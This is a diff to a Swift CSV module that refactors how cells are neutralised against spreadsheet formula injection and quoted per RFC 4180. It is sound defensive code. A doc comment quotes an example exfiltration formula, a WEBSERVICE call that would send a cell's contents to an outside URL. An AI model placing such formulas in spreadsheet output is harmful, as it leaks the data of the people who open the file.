@@ -258,8 +258,39 @@ public enum CSV {
     /// `=WEBSERVICE("http://…/?c="&C2)` opened by a print supplier would send the code in C2
     /// away (issue 13).
     public static func neutralized(_ cell: String) -> String {
-        guard let first = cell.first, formulaTriggers.contains(first), !isPlainNumber(cell) else { return cell }
+        guard let first = cell.utf8.first, startsFormula(first), !isPlainNumber(cell) else { return cell }
         return "'" + cell
+    }
+
+    /// True when a cell starting with the byte `first` is one a spreadsheet may run as a
+    /// formula (one of ``formulaTriggers``).
+    @inline(__always) public static func startsFormula(_ first: UInt8) -> Bool {
+        first == UInt8(ascii: "=") || first == UInt8(ascii: "+") || first == UInt8(ascii: "-")
+            || first == UInt8(ascii: "@") || first == 0x09 || first == 0x0D
+    }
+
+    /// Appends one cell of text to `out`, neutralised (``neutralized(_:)``) and quoted as needed
+    /// (RFC 4180: a cell holding `,`, `"`, CR or LF is quoted, quotes doubled), without making
+    /// intermediate strings: the one cell writer of every CSV the project writes, the letters,
+    /// generated frames and the aggregator's exports, tables and reports alike.
+    public static func appendCell(_ cell: String, to out: inout [UInt8]) {
+        var cell = cell
+        cell.withUTF8 { bytes in
+            guard let first = bytes.first else { return }
+            var needsQuotes = false
+            for b in bytes where b == 0x2C || b == 0x22 || b == 0x0A || b == 0x0D { needsQuotes = true; break }
+            if needsQuotes { out.append(0x22) }
+            if startsFormula(first) && !isPlainNumber(bytes) { out.append(UInt8(ascii: "'")) }
+            if needsQuotes {
+                for b in bytes {
+                    if b == 0x22 { out.append(0x22) }
+                    out.append(b)
+                }
+                out.append(0x22)
+            } else {
+                out.append(contentsOf: bytes)
+            }
+        }
     }
 
     /// Undoes ``neutralized(_:)``: a leading apostrophe followed by one of ``formulaTriggers``
@@ -271,9 +302,14 @@ public enum CSV {
     }
 
     private static func isPlainNumber(_ s: String) -> Bool {
+        var s = s
+        return s.withUTF8 { isPlainNumber($0) }
+    }
+
+    private static func isPlainNumber(_ bytes: UnsafeBufferPointer<UInt8>) -> Bool {
         var digits = 0
         var dots = 0
-        for (i, b) in s.utf8.enumerated() {
+        for (i, b) in bytes.enumerated() {
             if (b == UInt8(ascii: "-") || b == UInt8(ascii: "+")) && i == 0 { continue }
             if b == UInt8(ascii: ".") { dots += 1; continue }
             guard b >= UInt8(ascii: "0") && b <= UInt8(ascii: "9") else { return false }
@@ -284,11 +320,9 @@ public enum CSV {
 
     /// Quotes a field when needed (after neutralising it: see ``neutralized(_:)``).
     public static func escape(_ field: String) -> String {
-        let field = neutralized(field)
-        if field.contains(where: { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" }) {
-            return "\"" + field.replacingOccurrences(of: "\"", with: "\"\"") + "\""
-        }
-        return field
+        var out: [UInt8] = []
+        appendCell(field, to: &out)
+        return String(decoding: out, as: UTF8.self)
     }
 
     /// One CSV line (with trailing LF), every cell neutralised and quoted as needed: the one
